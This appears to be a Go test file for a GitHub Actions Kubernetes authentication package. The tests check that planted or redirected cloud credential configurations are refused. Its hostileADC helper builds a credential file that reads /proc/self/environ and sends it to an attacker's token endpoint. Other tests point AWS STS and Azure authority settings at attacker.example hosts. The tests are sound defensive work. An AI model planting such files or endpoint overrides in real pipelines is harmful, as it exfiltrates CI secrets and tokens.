package kubeauth

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/pach-upgrade/pach-upgrade/internal/runnerenv"
)

// runnerContainer lays out the runner's mounts of a container action under a temporary root
// (RUNNER_TEMP mounted only when withTemp, as runners from 2.331 do) and returns the root, the
// environment the runner passes, and the Env detected from them.
func runnerContainer(t *testing.T, withTemp bool) (string, map[string]string, runnerenv.Env) {
	t.Helper()
	root := t.TempDir()
	dirs := []string{runnerenv.Workspace, runnerenv.Home, runnerenv.Workflow, runnerenv.FileCommands}
	if withTemp {
		dirs = append(dirs, runnerenv.RunnerTemp)
	}
	for _, d := range dirs {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	at := func(p string) string { return filepath.Join(root, p) }
	env := map[string]string{
		"GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "acme/ops",
		"GITHUB_WORKSPACE": at(runnerenv.Workspace), "GITHUB_OUTPUT": at(runnerenv.FileCommands) + "/set_output_1",
		"HOME": at(runnerenv.Home), "RUNNER_WORKSPACE": "/home/runner/_work/ops", "RUNNER_TEMP": "/home/runner/_work/_temp",
	}
	if withTemp {
		env["RUNNER_TEMP"] = at(runnerenv.RunnerTemp)
	}
	return root, env, runnerenv.DetectAt(root, func(k string) string { return env[k] })
}

// catcher is a token endpoint of the attacker's: it records every request body it receives.
type catcher struct {
	srv  *httptest.Server
	mu   sync.Mutex
	got  []string
	host string
}

func newCatcher(t *testing.T) *catcher {
	c := &catcher{}
	c.srv = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		c.mu.Lock()
		c.got = append(c.got, r.URL.Path+"?"+string(b))
		c.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"access_token":"stolen","issued_token_type":"urn:ietf:params:oauth:token-type:access_token","token_type":"Bearer","expires_in":3600}`)
	}))
	t.Cleanup(c.srv.Close)
	c.host = strings.TrimPrefix(c.srv.URL, "https://")
	return c
}

func (c *catcher) received() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.got...)
}

// hostileADC is the external_account file of the attack: it reads this process's environment
// as the subject token and sends it to the attacker's token_url.
func hostileADC(t *testing.T, tokenURL string) []byte {
	t.Helper()
	b, err := json.Marshal(map[string]any{
		"type": "external_account", "audience": "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/q",
		"subject_token_type": "urn:ietf:params:oauth:token-type:jwt", "token_url": tokenURL,
		"credential_source": map[string]any{"file": "/proc/self/environ"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// signInGKE does what Configure does with a GKE plugin up to the first token.
func signInGKE(getenv func(string) string, opts Options) error {
	src, err := newGKE(context.Background(), &Plugin{Cloud: CloudGKE}, getenv, opts)
	if err != nil {
		return err
	}
	_, _, err = src.token(context.Background())
	return err
}

// TestGKEPlantedCredentialFileInTheWorkspaceIsNotUsed is item 1's attack: a runner that does
// not mount RUNNER_TEMP passes GOOGLE_APPLICATION_CREDENTIALS unchanged, and a pull request
// commits a file at that path's tail in the workspace. It must not be read.
func TestGKEPlantedCredentialFileInTheWorkspaceIsNotUsed(t *testing.T) {
	evil := newCatcher(t)
	root, env, runner := runnerContainer(t, false)
	planted := filepath.Join(root, runnerenv.Workspace, "home/runner/_work/_temp/sa.json")
	if err := os.MkdirAll(filepath.Dir(planted), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(planted, hostileADC(t, evil.srv.URL+"/token"), 0o644); err != nil {
		t.Fatal(err)
	}
	env["GOOGLE_APPLICATION_CREDENTIALS"] = "/home/runner/_work/_temp/sa.json"
	err := signInGKE(func(k string) string { return env[k] }, Options{Runner: runner, HTTPClient: evil.srv.Client(), AllowHosts: []string{"127.0.0.1"}})
	if got := evil.received(); len(got) > 0 {
		t.Fatalf("the planted credential file was used: the attacker received %q", got)
	}
	if err == nil || !strings.Contains(err.Error(), "/home/runner/_work/_temp/sa.json") || !strings.Contains(err.Error(), "not in a folder the runner shares") {
		t.Errorf("error %v, want the path named as outside the runner's mounts", err)
	}
}

// TestGKECredentialsFileOfTheAuthStep: the file google-github-actions/auth writes keeps working,
// by the path the runner rewrote, by a runner-side path under a mount, in RUNNER_TEMP or the
// workspace.
func TestGKECredentialsFileOfTheAuthStep(t *testing.T) {
	root, env, runner := runnerContainer(t, true)
	inTemp := filepath.Join(root, runnerenv.RunnerTemp, "gha-creds-1a2b.json")
	inWorkspace := filepath.Join(root, runnerenv.Workspace, "gha-creds-3c4d.json")
	for _, p := range []string{inTemp, inWorkspace} {
		if err := os.WriteFile(p, []byte(`{"type":"external_account"}`), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, tc := range []struct{ variable, want string }{
		{inTemp, inTemp}, // rewritten by the runner
		{"/home/runner/_work/_temp/gha-creds-1a2b.json", inTemp},
		{"/home/runner/_work/ops/ops/gha-creds-3c4d.json", inWorkspace},
	} {
		env["GOOGLE_APPLICATION_CREDENTIALS"] = tc.variable
		got, err := adcFile(func(k string) string { return env[k] }, Options{Runner: runner})
		if err != nil || got != tc.want {
			t.Errorf("GOOGLE_APPLICATION_CREDENTIALS=%s: adcFile = %q, %v; want %s", tc.variable, got, err, tc.want)
		}
	}
	// On the runner's host (or a laptop), the path is the path.
	env["GOOGLE_APPLICATION_CREDENTIALS"] = inTemp
	if got, err := adcFile(func(k string) string { return env[k] }, Options{}); err != nil || got != inTemp {
		t.Errorf("on the host: adcFile = %q, %v", got, err)
	}
	if _, err := adcFile(func(string) string { return "" }, Options{}); err == nil ||
		!strings.Contains(err.Error(), "GOOGLE_APPLICATION_CREDENTIALS") || !strings.Contains(err.Error(), "google-github-actions/auth") {
		t.Errorf("no credentials: %v", err)
	}
}

// TestGoogleTokenURLNotGooglesIsRefused: a credential file at the legitimate path whose
// token_url or service_account_impersonation_url is another host sends nothing there, unless
// allow-credential-hosts names the host.
func TestGoogleTokenURLNotGooglesIsRefused(t *testing.T) {
	evil := newCatcher(t)
	dir := t.TempDir()
	file := filepath.Join(dir, "gha-creds.json")
	env := map[string]string{"GOOGLE_APPLICATION_CREDENTIALS": file}
	getenv := func(k string) string { return env[k] }

	write := func(b []byte) {
		if err := os.WriteFile(file, b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(hostileADC(t, evil.srv.URL+"/token"))
	err := signInGKE(getenv, Options{HTTPClient: evil.srv.Client()})
	if got := evil.received(); len(got) > 0 {
		t.Fatalf("a token was sent to %s: %q", evil.host, got)
	}
	if err == nil || !strings.Contains(err.Error(), "token_url") || !strings.Contains(err.Error(), evil.host) || !strings.Contains(err.Error(), "allow-credential-hosts") {
		t.Errorf("error %v, want token_url, the host and allow-credential-hosts named", err)
	}

	var doc map[string]any
	if err := json.Unmarshal(hostileADC(t, "https://sts.googleapis.com/v1/token"), &doc); err != nil {
		t.Fatal(err)
	}
	doc["service_account_impersonation_url"] = evil.srv.URL + "/v1/projects/-/serviceAccounts/x@y.iam.gserviceaccount.com:generateAccessToken"
	b, _ := json.Marshal(doc)
	write(b)
	if _, err := newGKE(context.Background(), &Plugin{}, getenv, Options{}); err == nil || !strings.Contains(err.Error(), "service_account_impersonation_url") {
		t.Errorf("impersonation URL elsewhere: error %v, want it refused", err)
	}
	impersonated, _ := json.Marshal(map[string]any{"type": "impersonated_service_account",
		"service_account_impersonation_url": "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/x@y.iam.gserviceaccount.com:generateAccessToken",
		"source_credentials":                map[string]any{"type": "authorized_user", "token_uri": evil.srv.URL + "/token", "client_id": "c", "client_secret": "s", "refresh_token": "r"}})
	write(impersonated)
	if _, err := newGKE(context.Background(), &Plugin{}, getenv, Options{}); err == nil || !strings.Contains(err.Error(), "source_credentials.token_uri") {
		t.Errorf("nested source credentials elsewhere: error %v, want them refused", err)
	}

	// Allowed by the input, the host is the user's choice.
	write(hostileADC(t, evil.srv.URL+"/token"))
	if err := signInGKE(getenv, Options{HTTPClient: evil.srv.Client(), AllowHosts: []string{"127.0.0.1"}}); err != nil {
		t.Errorf("allowed host: %v", err)
	}
	if len(evil.received()) == 0 {
		t.Error("allowed host: no token request reached it")
	}
}

// TestAWSAndAzureCredentialsOnlyToTheirHosts: the same rule for the other clouds' file
// credentials and endpoints.
func TestAWSAndAzureCredentialsOnlyToTheirHosts(t *testing.T) {
	root, env, runner := runnerContainer(t, false)
	planted := filepath.Join(root, runnerenv.Workspace, "home/runner/_work/_temp/token")
	if err := os.MkdirAll(filepath.Dir(planted), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(planted, []byte("planted"), 0o644); err != nil {
		t.Fatal(err)
	}
	getenv := func(k string) string { return env[k] }
	eks := &Plugin{Cloud: CloudEKS, ClusterID: "c", Region: "eu-west-1"}

	env["AWS_ROLE_ARN"] = "arn:aws:iam::111122223333:role/r"
	env["AWS_WEB_IDENTITY_TOKEN_FILE"] = "/home/runner/_work/_temp/token"
	if _, err := newEKS(context.Background(), eks, getenv, Options{Runner: runner}); err == nil || !strings.Contains(err.Error(), "AWS_WEB_IDENTITY_TOKEN_FILE") ||
		!strings.Contains(err.Error(), "not in a folder the runner shares") {
		t.Errorf("web identity token file outside the mounts: error %v", err)
	}
	delete(env, "AWS_WEB_IDENTITY_TOKEN_FILE")
	env["AWS_ENDPOINT_URL_STS"] = "https://sts.attacker.example"
	if _, err := newEKS(context.Background(), eks, getenv, Options{Runner: runner}); err == nil || !strings.Contains(err.Error(), "AWS_ENDPOINT_URL_STS") ||
		!strings.Contains(err.Error(), "allow-credential-hosts") {
		t.Errorf("STS endpoint elsewhere: error %v", err)
	}
	env["AWS_ENDPOINT_URL_STS"] = "https://sts.eu-west-1.amazonaws.com"
	if _, err := newEKS(context.Background(), eks, getenv, Options{Runner: runner}); err != nil && strings.Contains(err.Error(), "allow-credential-hosts") {
		t.Errorf("AWS's own STS endpoint refused: %v", err)
	}

	aks := &Plugin{Cloud: CloudAKS, Login: "workloadidentity", ServerID: "srv", ClientID: "c", TenantID: "t"}
	env["AZURE_FEDERATED_TOKEN_FILE"] = "/home/runner/_work/_temp/token"
	if _, err := newAKS(context.Background(), aks, getenv, Options{Runner: runner}); err == nil || !strings.Contains(err.Error(), "AZURE_FEDERATED_TOKEN_FILE") ||
		!strings.Contains(err.Error(), "not in a folder the runner shares") {
		t.Errorf("federated token file outside the mounts: error %v", err)
	}
	inHome := filepath.Join(root, runnerenv.Home, "azure-token")
	if err := os.WriteFile(inHome, []byte("tok"), 0o600); err != nil {
		t.Fatal(err)
	}
	env["AZURE_FEDERATED_TOKEN_FILE"] = "/home/runner/_work/_temp/_github_home/azure-token"
	if _, err := newAKS(context.Background(), aks, getenv, Options{Runner: runner}); err != nil {
		t.Errorf("federated token file in the mounted home: %v", err)
	}
	env["AZURE_AUTHORITY_HOST"] = "https://login.attacker.example/"
	if _, err := newAKS(context.Background(), aks, getenv, Options{Runner: runner}); err == nil || !strings.Contains(err.Error(), "authority host") ||
		!strings.Contains(err.Error(), "allow-credential-hosts") {
		t.Errorf("authority elsewhere: error %v", err)
	}
	if _, err := newAKS(context.Background(), aks, getenv, Options{Runner: runner, AllowHosts: []string{"login.attacker.example"}}); err != nil {
		t.Errorf("allowed authority: %v", err)
	}
	env["AZURE_AUTHORITY_HOST"] = "https://login.microsoftonline.us/"
	if _, err := newAKS(context.Background(), aks, getenv, Options{Runner: runner}); err != nil {
		t.Errorf("US Government authority: %v", err)
	}
}
